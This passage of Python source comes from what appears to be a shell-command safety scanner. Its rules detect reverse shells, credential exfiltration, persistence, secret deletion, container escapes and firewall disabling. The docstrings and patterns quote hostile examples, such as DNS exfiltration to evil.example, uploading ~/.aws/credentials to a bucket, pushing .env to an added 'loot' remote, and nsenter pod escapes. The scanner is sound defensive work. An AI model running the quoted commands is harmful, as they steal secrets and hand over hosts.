        if re.search(r"SELINUX=(disabled|permissive)", content):
            return finding("firewall_disable", "disables SELinux at boot", cmd.text)
    return None


MACOS_FIREWALL = re.compile(r"com\.apple\.alf(\.plist)?$")
IPTABLES_MATCHES = frozenset({"-s", "--source", "-d", "--destination", "-i", "--in-interface", "-p", "--protocol",
                              "-m", "--match", "--dport", "--sport", "-o", "--out-interface"})  # fmt: skip


def firewall_opened(cmd: Command) -> str | None:
    """The packet filter switched off (`pfctl -d`, macOS's application firewall set to 0) or every packet
    accepted ahead of the rules (`iptables -I INPUT -j ACCEPT` with no match)."""
    name, args = cmd.name, cmd.args
    if name == "pfctl" and "d" in short_flags(args) and "-s" not in args:
        return "pfctl -d turns the packet filter off"
    macos_firewall = name == "defaults" and args[:1] == ["write"] and len(args) > 3 and MACOS_FIREWALL.search(args[1])
    if macos_firewall and args[2] == "globalstate" and args[-1] == "0":
        return "turns the macOS application firewall off"
    if program(name) == "socketfilterfw" and option_value(args, "--setglobalstate") == "off":
        return "turns the macOS application firewall off"
    inserted = IPTABLES.fullmatch(name) and option_value(args, "-I", "--insert") in ("INPUT", "FORWARD")
    if inserted and option_value(args, "-j", "--jump") == "ACCEPT" and not IPTABLES_MATCHES & set(args):
        return "accepts every packet ahead of the firewall's rules"
    return None


SOCKET_CODE = re.compile(r"socket|fsockopen|TCPSocket|IO::Socket|/inet/|\bnet\b.*\.(connect|createConnection)\(", re.I)
SHELL_CODE = re.compile(
    r"/bin/(ba|z|da)?sh|subprocess|pty\.spawn|dup2|\bexec\b|shell_exec|proc_open|popen|spawn"
    r"|getline|system\s*\("
)


# A `$VAR` program counts as a shell when its redirections reach a socket: hence redirects=True.
@rule(
    names={*SHELLS, *INTERPRETERS, "awk", "gawk", "nc", "ncat", "netcat", "socat"}, patterns=(PYTHON,), redirects=True
)
def rule_reverse_shell(cmd: Command, ctx: Context) -> Finding | None:
    name = cmd.name
    if name in ("nc", "ncat", "netcat") and (
        {"e", "c"} & short_flags(cmd.args) or {"--exec", "--sh-exec", "--lua-exec"} & long_flags(cmd.args)
    ):
        return finding("reverse_shell", f"{name} hands a shell to a network peer", cmd.text)
    if name == "socat" and any(re.search(r"(^|[,!])(exec|system):", a.lower()) for a in cmd.args):
        return finding("reverse_shell", "socat connects a program to a socket", cmd.text)
    shell_like = name in SHELLS or (cmd.words[:1] and cmd.words[0].startswith("$"))
    for _op, target in cmd.redirects:
        if shell_like and re.match(r"^/dev/(tcp|udp)/", target):
            return finding("reverse_shell", f"connects {name or 'a shell'} to {target}", cmd.text)
        if shell_like and target.startswith("&") and target[1:] in ctx.socket_fds:
            return finding("reverse_shell", "runs a shell on a socket opened with /dev/tcp", cmd.text)
    if executes_stdin(cmd) and any(m.name in REVERSE_CLIENTS for m in cmd.pipeline if m is not cmd):
        return finding("reverse_shell", f"pipes a network connection through {name}", cmd.text)
    code = interpreter_code(cmd) if is_interpreter(cmd.name) or name in ("awk", "gawk") else None
    if code and SOCKET_CODE.search(code) and SHELL_CODE.search(code):
        return finding("reverse_shell", f"{name} code opens a socket and runs a shell on it", cmd.text)
    return None


def sent_paths(cmd: Command) -> list[str]:
    """Paths named in arguments of a network command, minus TLS/identity options that never upload."""
    found, skip = [], False
    for arg in cmd.args:
        if skip:
            skip = False
            continue
        if arg in TLS_OPTIONS:
            skip = True
            continue
        found += re.findall(r"(?:^|=)([~/][^\s;,'\"]*)", arg)
        found += re.findall(r"@([~/][^;,'\"]*)", arg)  # one word: `@"$HOME/.../Login Data"` keeps its space
        found += re.findall(r"^(?:\w+=)?@([^~/\s;,'\"][^\s;,'\"]*)", arg)  # curl's `-F f=@.env`, `-d @.env`
        if cmd.name == "socat":  # `FILE:~/.ssh/id_rsa`, `OPEN:.env`
            found += re.findall(r"^(?:FILE|OPEN|GOPEN|CREATE):([^,]+)", arg, re.I)
    if cmd.name in ("scp", "rsync", "sftp"):
        found += [o for o in operands(cmd.args) if not re.match(r"^[\w.-]*@?[\w.-]+:", o)]
    return found


# Programs that reach another host with what they are given: a lookup's name travels to a DNS server
# (`dig $(base64 key).evil.example`), an upload's file to a bucket.
# An environment variable that holds a secret by its name: `$AWS_SECRET_ACCESS_KEY`, `${GITHUB_TOKEN}`.
SECRET_VARIABLE = re.compile(
    r"\$\{?([A-Z0-9_]*(SECRET|TOKEN|PASSWORD|PASSWD|PRIVATE_KEY|API_KEY|ACCESS_KEY)[A-Z0-9_]*)"
)
LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "whois"})
BUCKET_COPIERS = {
    "aws": ("s3", ("cp", "mv", "sync")),
    "gsutil": ("", ("cp", "mv", "rsync")),
    "gcloud": ("storage", ("cp", "mv", "rsync")),
    "rclone": ("", ("copy", "copyto", "sync", "move", "moveto")),
    "azcopy": ("", ("copy", "cp", "sync")),
    "az": ("storage", ("upload", "upload-batch")),
}
NETWORK_CODE = re.compile(
    r"socket|create_connection|sendall|requests\.(post|put)|urlopen|https?\.request|\.request\(|fetch\(|smtplib"
    r"|ftplib|IO::Socket|LWP|HTTP::Tiny|Net::HTTP|TCPSocket|fsockopen|curl_exec|paramiko|/dev/tcp/"
)


EXFILTRATION_CHANNELS = frozenset(
    {*NETWORK_SENDERS, *LOOKUPS, *BUCKET_COPIERS, "ssh", "openssl", "git", "cp", "install", "ln", "mv", "gh", "glab"}
)


@rule(names={*EXFILTRATION_CHANNELS, *INTERPRETERS}, patterns=(PYTHON,))
def rule_exfiltration(cmd: Command, ctx: Context) -> Finding | None:
    name = cmd.name
    if name not in EXFILTRATION_CHANNELS and not is_interpreter(name):
        return None
    if is_interpreter(name):
        return code_sends_secret(cmd)
    if name == "git":
        return pushes_secret(cmd, ctx)
    if name in ("cp", "install", "ln", "mv"):
        return published_secret(cmd)
    if name in ("gh", "glab"):
        return gist_of_secret(cmd)
    if name == "openssl" and cmd.args[:1] != ["s_client"]:
        return None
    if input_of(cmd).kind == "secret" and name not in LOOKUPS and name not in BUCKET_COPIERS:
        return finding("credential_exfiltration", f"sends credentials or the environment through {name}", cmd.text)
    if name in REVERSE_CLIENTS and cmd.upstream is not None and cmd.upstream.name in ("echo", "printf"):
        variable = SECRET_VARIABLE.search(cmd.upstream.text)
        if variable:
            return finding(
                "credential_exfiltration", f"sends ${variable.group(1)} to another host through {name}", cmd.text
            )
    if name in ("ssh", "openssl"):
        return None
    if any(SECRET in a for a in cmd.args):
        return finding("credential_exfiltration", f"{name} sends a credential read by a substitution", cmd.text)
    if name in LOOKUPS:
        return None
    if name in BUCKET_COPIERS:
        return copies_secret_to_bucket(cmd)
    credentials = [p for p in sent_paths(cmd) if paths.is_credential(p)]
    if not credentials:
        return None
    remote = any(re.match(r"^[\w.-]*@?[\w.-]+:", o) for o in operands(cmd.args))
    if name in ("scp", "rsync", "sftp") and (not remote or not any(home_or_system(c) for c in credentials)):
        return None  # a local copy, or a project's .env deployed to its server
    return finding("credential_exfiltration", f"{name} sends {credentials[0]} to another host", cmd.text)


WEB_ROOTS = re.compile(
    r"^/(var/www|srv/www|srv/http|usr/share/nginx/html|var/lib/nginx/html|srv/public)(/|$)|/public_html(/|$)"
)


def published_secret(cmd: Command) -> Finding | None:
    """A private key or credentials copied into a web server's document root: anyone can download it."""
    ops = operands(cmd.args, frozenset({"-t", "--target-directory", "-m", "--mode", "-o", "-g", "-S"}))
    target = option_value(cmd.args, "-t", "--target-directory") or (ops[-1] if len(ops) >= 2 else "")
    sources = ops if option_value(cmd.args, "-t", "--target-directory") else ops[:-1]
    secret = next((s for s in sources if paths.is_credential(s) or paths.private_path(s, cmd.cwd)), None)
    if secret and WEB_ROOTS.search(paths.normalize(target, cmd.cwd) or target):
        return finding("credential_exfiltration", f"puts {secret} where the web server hands it to anyone", cmd.text)
    return None


def gist_of_secret(cmd: Command) -> Finding | None:
    """`gh gist create ~/.ssh/id_rsa`, `glab snippet create ...`: a credential uploaded to a public service."""
    ops = operands(cmd.args, frozenset({"-d", "--desc", "-f", "--filename", "-t", "--title", "-R", "--repo"}))
    if ops[:2] not in (["gist", "create"], ["snippet", "create"], ["gist", "new"]):
        return None
    secret = next((o for o in ops[2:] if paths.is_credential(o) or paths.private_path(o, cmd.cwd)), None)
    return finding("credential_exfiltration", f"{cmd.name} uploads {secret}", cmd.text) if secret else None


def home_or_system(path: str) -> bool:
    return path.startswith(("~", "/"))


def copies_secret_to_bucket(cmd: Command) -> Finding | None:
    """`aws s3 cp ~/.aws/credentials s3://drop/`, `rclone copy ~/.ssh remote:x`: credentials uploaded."""
    group, verbs = BUCKET_COPIERS[cmd.name]
    ops = operands(cmd.args)
    if group:
        if ops[:1] != [group]:
            return None
        ops = ops[1:]
    if cmd.name == "az":
        ops = ops[2:] if len(ops) > 1 and ops[1] in verbs else []
        ops += [v for v in (option_value(cmd.args, "-f", "--file", "-s", "--source"),) if v]
    elif not ops or ops[0] not in verbs:
        return None

    def is_remote(o: str) -> bool:
        return "://" in o or re.match(r"^[\w-]+:", o) is not None

    sources = ops[1:] if cmd.name == "az" else ops[1:-1]
    if cmd.name != "az" and not (ops[-1:] and is_remote(ops[-1])):
        return None  # a download, or a copy between two local paths
    # a project's `.env` kept in its own bucket is how many deploys work: only a home's or the system's
    secret = next((o for o in sources if not is_remote(o) and paths.is_credential(o) and home_or_system(o)), None)
    if secret:
        return finding("credential_exfiltration", f"{cmd.name} uploads {secret} to cloud storage", cmd.text)
    return None


def code_sends_secret(cmd: Command) -> Finding | None:
    """Interpreter code that opens a network connection and names a credential file: `socket...sendall(
    open('~/.ssh/id_rsa').read())`, `https.request(...).end(readFileSync(HOME + '/.npmrc'))`."""
    code = interpreter_code(cmd)
    if not code or not NETWORK_CODE.search(code):
        return None
    literals = re.findall(r"\"((?:[^\"\\]|\\.)*)\"|'((?:[^'\\]|\\.)*)'", code)
    secret = next((a or b for a, b in literals if paths.is_credential(a or b)), None)
    if secret:
        return finding("credential_exfiltration", f"{cmd.name} code sends {secret} over the network", cmd.text)
    if WHOLE_ENVIRONMENT.search(code):
        return finding(
            "credential_exfiltration", f"{cmd.name} code sends the whole environment over the network", cmd.text
        )
    return None


# The whole environment taken as data (its tokens and keys with it), not one variable looked up.
WHOLE_ENVIRONMENT = re.compile(
    r"dict\(\s*os\.environ\s*\)|os\.environ\.(items|copy)\(|str\(\s*os\.environ\s*\)|dumps\(\s*(dict\()?os\.environ"
    r"|JSON\.stringify\(\s*process\.env\s*\)|ENV\.to_h|%ENV\b"
)


def pushes_secret(cmd: Command, ctx: Context) -> Finding | None:
    """`git add -f .env && git commit ... && git push loot HEAD`: a credential committed, then pushed. A
    project's `.env` counts when forced past .gitignore or pushed to a remote added on the line; a key or
    credentials file from a home or the system always does."""
    ops = operands(cmd.args)
    if ops[:1] != ["push"]:
        return None
    added_remotes = set()
    for earlier in ctx.commands:
        if earlier is cmd:
            break
        earlier_ops = operands(earlier.args) if earlier.name == "git" else []
        if earlier_ops[:2] == ["remote", "add"] and len(earlier_ops) > 2:
            added_remotes.add(earlier_ops[2])
        if earlier_ops[:1] != ["add"]:
            continue
        forced = "f" in short_flags(earlier.args) or "--force" in long_flags(earlier.args)
        new_remote = len(ops) > 1 and ops[1] in added_remotes
        for secret in (o for o in earlier_ops[1:] if paths.is_credential(o)):
            if forced or new_remote or home_or_system(paths.normalize(secret, earlier.cwd) or secret):
                return finding("credential_exfiltration", f"pushes {secret}, added to git, to a remote", cmd.text)
    return None


@rule(names={*WRITERS, "crontab", "git", "curl", "wget", "cp", "mv", "install"}, redirects=True)
def rule_persistence(cmd: Command, ctx: Context) -> Finding | None:
    if cmd.name == "git":
        return git_persistence(cmd, ctx)
    fetched = [f for f in downloaded_files(cmd) if paths.is_persistence_file(f)]
    if fetched:
        return finding("persistence", f"puts a download in {fetched[0]}, which runs it at every start", cmd.text)
    targets = [t for t, _ in writes(cmd) if paths.is_persistence_file(t) or paths.is_authorized_keys(t)]
    if cmd.name == "crontab" and (operands(cmd.args) == ["-"] or (not operands(cmd.args) and cmd.upstream is not None)):
        targets.append("the crontab")
    if not targets:
        return None
    if any(t.endswith("ld.so.preload") for t in targets):
        return finding("persistence", "preloads a library into every process", cmd.text)
    ops = operands(cmd.args)
    if cmd.name in ("cp", "mv", "install") and any(paths.is_temporary_executable(o) for o in ops[:-1]):
        return finding("persistence", f"installs a file from a temporary or hidden place as {ops[-1]}", cmd.text)
    for planted in planted_commands(written_text(cmd) or "", targets[0]):
        reason = planted.strip() and suspicious_startup(planted, ctx)
        if reason:
            return finding("persistence", f"plants `{planted.strip()}` in {targets[0]}: {reason}", cmd.text)
    return None


def git_persistence(cmd: Command, ctx: Context) -> Finding | None:
    """`git config core.fsmonitor CMD` and friends: git runs CMD in every repository from then on."""
    setting = git_planted(cmd.args)
    if setting is None:
        return None
    key, value = setting
    if key.lower() == "core.hookspath":
        if paths.is_temporary_executable(value.rstrip("/") + "/x") or re.match(r"^/(tmp|var/tmp|dev/shm)\b", value):
            return finding("persistence", f"makes git run hooks from {value}, where anyone can put them", cmd.text)
        return None
    code = value[1:] if value.startswith("!") else value
    if key.lower().startswith(("alias.", "credential.")) and not value.startswith("!"):
        return None  # a git alias or helper name, not a shell command
    reason = suspicious_startup(code, ctx)
    return finding("persistence", f"makes git run `{code}` ({key}): {reason}", cmd.text) if reason else None


# Commands typed all the time: an alias planted under one of these names runs the next time the user
# types it, with the user's own arguments appended (`alias cd='rm -rf'` turns `cd ~` into `rm -rf ~`).
COMMON_COMMANDS = frozenset(
    {
        "ls",
        "cd",
        "cat",
        "cp",
        "mv",
        "vi",
        "vim",
        "nano",
        "less",
        "git",
        "sudo",
        "ssh",
        "grep",
        "clear",
        "pwd",
        "make",
        "python",
        "python3",
        "pip",
        "npm",
        "docker",
        "kubectl",
        "top",
        "man",
        "mkdir",
        "apt",
        "brew",
        "code",
        "tail",
        "head",
        "find",
        "history",
    }
)


PRELOAD_SET = re.compile(
    r"^\s*(export|setenv|declare\s+-x)\s+LD_PRELOAD[=\s]\s*['\"]?[^\s'\"]|^\s*LD_PRELOAD=['\"]?[^\s'\";]+['\"]?\s*(;|$)"
)
STARTUP_PREFIXES = frozenset({"nohup", "setsid", "exec", "(", "{", "sudo", "command", "builtin", "disown"})


def suspicious_startup(line: str, ctx: Context) -> str | None:
    """Why a command planted to run later is malicious, or None. Fetching something (`alias weather='curl
    wttr.in'`, a health-check ping in cron) is not; sending local data out, running code from the network
    or from a hidden place, and anything the scanner calls dangerous are."""
    inner = ctx.judge(line) if ctx.judge else None
    if inner is not None and inner.level == DANGEROUS:
        return inner.reason
    booby_trap = booby_trapped_definition(line, ctx)
    if booby_trap:
        return booby_trap
    if sends_local_data(line):
        return "sends local data over the network every time it runs"
    if PRELOAD_SET.search(line):
        return "preloads a library into every program the shell starts"
    first = next((w for w in re.split(r"[\s(){};&]+", line) if w and w not in STARTUP_PREFIXES), "")
    if paths.is_temporary_executable(first):
        return f"runs {first} from a temporary or hidden location"
    if re.match(r"\s*alias\s+(sudo|su|ssh|passwd)=", line):
        return "hijacks a credential-handling command"
    return None


def booby_trapped_definition(line: str, ctx: Context) -> str | None:
    """An alias or PROMPT_COMMAND in a startup file whose code is dangerous once it runs later."""
    if ctx.judge is None:
        return None
    for name, code in planted_definitions(line):
        found = ctx.judge(code) if code.strip() else None
        if found is None and name in COMMON_COMMANDS:
            found = ctx.judge(f"{code} ~")  # what `{name} ~` would then run
        if found is not None:
            when = "at every prompt" if name == "PROMPT_COMMAND" else f"whenever `{name}` is typed"
            return f"runs `{code}` {when}: {found.reason}"
    return None


def planted_definitions(line: str) -> list[tuple[str, str]]:
    """(name, code) for each alias and PROMPT_COMMAND that a startup-file line defines."""
    found = []
    for command in collect(line).commands:
        if command.name == "alias":
            found += [
                (arg.partition("=")[0], arg.partition("=")[2])
                for arg in command.args
                if "=" in arg and not arg.startswith("-")
            ]
        found += [(variable, value) for variable, value in command.assignments if variable == "PROMPT_COMMAND"]
    return found


# ------------------------------------------------------------------ rules added with the v3 corpus


def gpg_secret_deletion(cmd: Command) -> Finding | None:
    """`gpg --batch --yes --delete-secret-keys ...`: without `--yes` gpg asks for each key; with it they go."""
    flags = long_flags(cmd.args)
    deleting = {"--delete-secret-keys", "--delete-secret-key", "--delete-secret-and-public-keys",
                "--delete-secret-and-public-key"} & flags  # fmt: skip
    if deleting and "--yes" in flags:
        return finding(
            "secret_destruction", "deletes GPG secret keys without asking: they cannot be recovered", cmd.text
        )
    return None


@rule(names={*REMOVERS, *WRITERS, "find", "gpg", "gpg2"}, redirects=True)
def rule_secret_destruction(cmd: Command, ctx: Context) -> Finding | None:
    if cmd.name in ("gpg", "gpg2"):
        return gpg_secret_deletion(cmd)
    erased = emptied(cmd)
    # (path, whether the whole tree under it goes, how the reason names it)
    targets = [(t, is_recursive(cmd), f"deletes {t}") for t in removes(cmd)]
    targets += [(t, False, f"empties {t}") for t in erased]
    if cmd.name == "find":
        spec = parse_find(cmd.words)
        deleting = spec.deletes or any(e and program(e[0]) in REMOVERS for e in spec.execs)
        removing = deleting or any(e and program(e[0]) == "truncate" for e in spec.execs)
        verb = "deletes" if deleting else "empties"
        if removing and not spec.narrowed:
            targets += [(root, True, f"{verb} everything under {root}") for root in spec.roots]
        elif removing:  # `find ~/.ssh -name 'id_*' -delete`: what the names match, at any depth
            for root in spec.roots:
                for name in spec.names:
                    what = paths.home_secret_named(root, name, cmd.cwd)
                    if what:
                        return finding(
                            "secret_destruction",
                            f"deletes the files named {name} under {root}, which hold {what}: it cannot be recovered",
                            cmd.text,
                        )
    for target, whole_tree, action in targets:
        what = paths.home_secret(target, cmd.cwd, whole_tree)
        if what:
            return finding("secret_destruction", f"{action}, which holds {what}: it cannot be recovered", cmd.text)
    return None


@rule(names={"rm", "find"})
def rule_empty_variable_delete(cmd: Command, ctx: Context) -> Finding | None:
    roots: list[str] = []
    if cmd.name == "rm" and is_recursive(cmd):
        roots = operands(cmd.args)
    elif cmd.name == "find":
        spec = parse_find(cmd.words)
        roots = spec.roots if spec.deletes and not spec.narrowed else []
    for target in roots:
        emptied_form = paths.with_empty_variables(target, ctx.guarded)
        root = emptied_form and paths.critical_root(emptied_form[0], cmd.cwd)
        if root:
            name = emptied_form[1]
            return finding(
                "empty_variable_delete",
                f'deletes {root} if ${name} is unset or empty (write "${{{name}:?}}" to stop instead)',
                cmd.text,
            )
    return None


CRONTAB_STORE = re.compile(r"^/var/spool/cron(/crontabs)?(/.*)?$|^/etc/crontab$|^/etc/cron\.d(/.*)?$")


@rule(names={"crontab", *REMOVERS, *WRITERS}, redirects=True)
def rule_crontab_wipe(cmd: Command, ctx: Context) -> Finding | None:
    if cmd.name == "crontab":
        user = option_value(cmd.args, "-u")
        whose = f"{user}'s" if user else "the user's"
        flags, ops = short_flags(cmd.args), operands(cmd.args, frozenset({"-u"}))
        if "r" in flags and "i" not in flags:
            return finding("crontab_wipe", f"crontab -r deletes every cron job of {whose} without asking", cmd.text)
        stdin = input_of(cmd).text if ops == ["-"] or (not ops and cmd.upstream is not None) else None
        if ops == ["/dev/null"] or (stdin is not None and not stdin.strip()):
            return finding("crontab_wipe", f"replaces {whose} crontab with an empty one", cmd.text)
    for target in removes(cmd) + emptied(cmd):
        normal = paths.normalize(target, cmd.cwd)
        if normal and CRONTAB_STORE.match(normal):
            return finding("crontab_wipe", f"erases {target}, where scheduled jobs are kept", cmd.text)
    return None


@rule(names={*containers.ENGINES, "chroot", "mount", "kubectl"}, contained=True)
def rule_container_escape(cmd: Command, ctx: Context) -> Finding | None:
    if cmd.name == "kubectl":
        return pod_escape(cmd)
    box = containers.parse_run(cmd.words) if cmd.name in containers.ENGINES else None
    if box is not None:
        root = box.root_writable()
        if root and containers.runs_shell(box, SHELLS):
            return finding(
                "container_escape",
                f"opens a shell in a container with the host's / mounted writable "
                f"at {root.target}: full root access to the host",
                cmd.text,
            )
        # a management UI given the socket (portainer, lazydocker) is routine; a shell or a docker client is not
        client = bool(box.command) and program(box.command[0]) in containers.ENGINES
        if box.socket() and (containers.runs_shell(box, SHELLS, default_command=False) or client):
            return finding(
                "container_escape",
                "hands the host's Docker socket to a shell or client in a container: "
                "it can start any container on the host, as root",
                cmd.text,
            )
        return None
    return escape_from_inside(cmd)


HOST_ACCESS = re.compile(r"\"(hostPID|privileged)\"\s*:\s*true|\"hostPath\"\s*:\s*\{\s*\"path\"\s*:\s*\"/\"")
INTO_HOST = re.compile(r"\"(nsenter|chroot)\"")


def pod_escape(cmd: Command) -> Finding | None:
    """`kubectl run --overrides='{..."hostPID":true, "privileged":true, ...["nsenter","-t","1",...]}'`: a pod
    given the node's processes or disk that enters them is a root shell on the node."""
    ops = operands(cmd.args)
    overrides = option_value(cmd.args, "--overrides") or ""
    if ops[:1] not in (["run"], ["debug"]) or not HOST_ACCESS.search(overrides):
        return None
    if INTO_HOST.search(overrides) or "nsenter" in cmd.args or "chroot" in cmd.args:
        return finding(
            "container_escape", "runs a privileged pod that enters the node: a root shell on the host", cmd.text
        )
    return None


def escape_from_inside(cmd: Command) -> Finding | None:
    """A command inside a container that breaks out: chroot into the host's root, nsenter into pid 1
    through the host's PID namespace, or mounting a host disk in a privileged container."""
    box = cmd.container
    if box is None:
        return None
    words = cmd.wrappers + cmd.words
    programs = [program(w) for w in words]
    if "chroot" in programs:
        rest = skip_options(words[programs.index("chroot") + 1 :], WRAPPERS["chroot"][0], 0, False)
        if rest[:1] == ["/"]:
            return finding("container_escape", "chroots into the host's root filesystem from a container", cmd.text)
    if "nsenter" in programs and box.host_pid and box.all_powerful():
        target = option_value(words[programs.index("nsenter") + 1 :], "-t", "--target")
        if target == "1":
            return finding(
                "container_escape",
                "enters the host's namespaces through pid 1 from a privileged container: a root shell on the host",
                cmd.text,
            )
    if cmd.name == "mount" and box.all_powerful() and any(paths.is_device(a) for a in cmd.args):
        return finding("container_escape", "mounts a host disk inside a privileged container", cmd.text)
    return None


@rule(names={"apt", "apt-get", "aptitude", "yum", "dnf", "microdnf", "zypper", "apk", "dpkg", "rpm", "pacman"})
def rule_package_removal(cmd: Command, ctx: Context) -> Finding | None:
    removal = packages.parse_removal(cmd.name, cmd.args)
    if removal is None:
        return None
    for package in removal.packages:
        essential = packages.essential_package(package)
        if essential:
            return finding(
                "system_package_removal",
                f"{cmd.name} removes {essential}, which the system needs to boot, run or install anything again",
                cmd.text,
            )
    if removal.forced and removal.packages:
        return finding(
            "system_package_removal",
            f"{cmd.name} is told to remove essential packages (--allow-remove-essential / --force-remove-essential)",
            cmd.text,
        )
    access = [p for p in removal.packages if re.split(r"[:=]", p, maxsplit=1)[0] in ACCESS_PACKAGES]
    if access:
        unattended = bool(UNATTENDED & set(cmd.args)) or "y" in short_flags(cmd.args) or cmd.name in ("apk", "rpm")
        judge = finding if unattended else warning
        return judge("remote_lockout", f"{cmd.name} removes {access[0]}: how you log in or become root", cmd.text)
    return None


# Removing these cuts you off: no sudo to repair it, no ssh server to come back in through.
ACCESS_PACKAGES = frozenset({"sudo", "sudo-ldap", "doas", "opendoas", "openssh-server", "openssh", "ssh"})
UNATTENDED = frozenset({"--yes", "--assume-yes", "--assumeyes", "--noconfirm", "--non-interactive"})


# ------------------------------------------------------------------ rules added with the v4 corpus (system.py)

rule_lockout = rule(
    names={"nft", "ufw", "firewall-cmd", "ip", "ifconfig", "ifdown", "nmcli", "route", "systemctl", "service",
           "pkill", "killall", "init", "telinit", "usermod", "chsh", "userdel", "deluser", *REMOVERS, *WRITERS},
    patterns=(IPTABLES,),
    redirects=True,
)(system.judge_lockout)  # fmt: skip
rule_exhaustion = rule(
    names={
        "yes",
        "cat",
        "pv",
        "tee",
        "fallocate",
        "dd",
        "head",
        *system.BUFFERING,
        "stress",
        "stress-ng",
        "seq",
        "openssl",
        "xargs",
    },  # fmt: skip
    redirects=True,
)(system.judge_exhaustion)
rule_breakage = rule(
    names={*REMOVERS, *WRITERS, "mv", "ln", "cp", "install", "chmod", "truncate", "efibootmgr"}, redirects=True
)(system.judge_breakage)
rule_mac = rule(
    names={"aa-disable", "aa-complain", "apparmor_parser", "auditctl", "grubby", "csrutil", "spctl", "semanage",
           "sysctl", *WRITERS},
    redirects=True,
)(system.judge_mac)  # fmt: skip
rule_privilege = rule(names={"setcap", "setfacl"})(system.judge_privilege)
rule_exposure = rule(names={*INTERPRETERS, "php"}, patterns=(PYTHON,))(system.judge_exposure)


# ------------------------------------------------------------------ what tools' own verbs destroy (verbs.py and kin)

rule_database = rule(names=database.CLIENTS)(lambda cmd, ctx: database.judge(cmd))
rule_containers = rule(names=engines.ENGINES)(lambda cmd, ctx: engines.judge(cmd))
rule_vcs = rule(names={"git"})(lambda cmd, ctx: vcs.judge(cmd))
rule_admin_grant = rule(names=verbs.PROFILES)(lambda cmd, ctx: verbs.admin_grant(cmd))
rule_http_delete = rule(names=verbs.HTTP_CLIENTS | verbs.API_CLIENTS)(lambda cmd, ctx: verbs.http_delete(cmd))


@rule(names=verbs.PROFILES, unknown=True)
def rule_tool_verbs(cmd: Command, ctx: Context) -> Finding | None:
    """Resource tools by their profile; a program no rule names by the generic fallback (verbs.py). A call
    of a function or alias defined on the line is no program: the walk judges what it runs."""
    if cmd.words and (cmd.words[0] in ctx.functions or cmd.words[0] in ctx.aliases):
        return None
    return verbs.judge(cmd, DECLARED)


RULES: tuple[Rule, ...] = (  # the order breaks ties between equally severe findings on one command
    rule_recursive_delete,
    rule_disk_wipe,
    rule_reverse_shell,
    rule_remote_code,
    rule_exfiltration,
    rule_exposure,
    rule_auth,
    rule_package_removal,
    rule_breakage,
    rule_privilege,
    rule_admin_grant,
    rule_http_delete,
    rule_database,
    rule_tool_verbs,
    rule_containers,
    rule_vcs,
    rule_fork_bomb,
    rule_permissions,
    rule_secret_destruction,
    rule_empty_variable_delete,
    rule_container_escape,
    rule_firewall,
    rule_mac,
    rule_lockout,
    rule_exhaustion,
    rule_persistence,
    rule_obfuscated,
    rule_shutdown,
    rule_history_logs,
    rule_crontab_wipe,
)


# Every program some rule reads by name: the generic fallback leaves these to their own rules.
DECLARED = frozenset(name for r in RULES if not r.unknown for name in r.names)
DECLARED_PATTERNS = tuple(p for r in RULES for p in r.patterns)


@lru_cache(maxsize=4096)
def declared(name: str) -> bool:
    return name in DECLARED or any(p.fullmatch(name) for p in DECLARED_PATTERNS)


def rules_for(cmd: Command, ctx: Context) -> tuple[Rule, ...]:
    """The rules that declared they read this command, in RULES order."""
    runs_downloaded = bool(cmd.words) and cmd.words[0].removeprefix("./") in ctx.downloaded
    return rules_wanting(
        cmd.name, bool(cmd.redirects), bool(cmd.assignments), runs_downloaded, cmd.container is not None
    )


@lru_cache(maxsize=4096)
def rules_wanting(name: str, redirects: bool, assignments: bool, downloaded: bool, contained: bool) -> tuple[Rule, ...]:
    return tuple(r for r in RULES if r.wants(name, redirects, assignments, downloaded, contained))
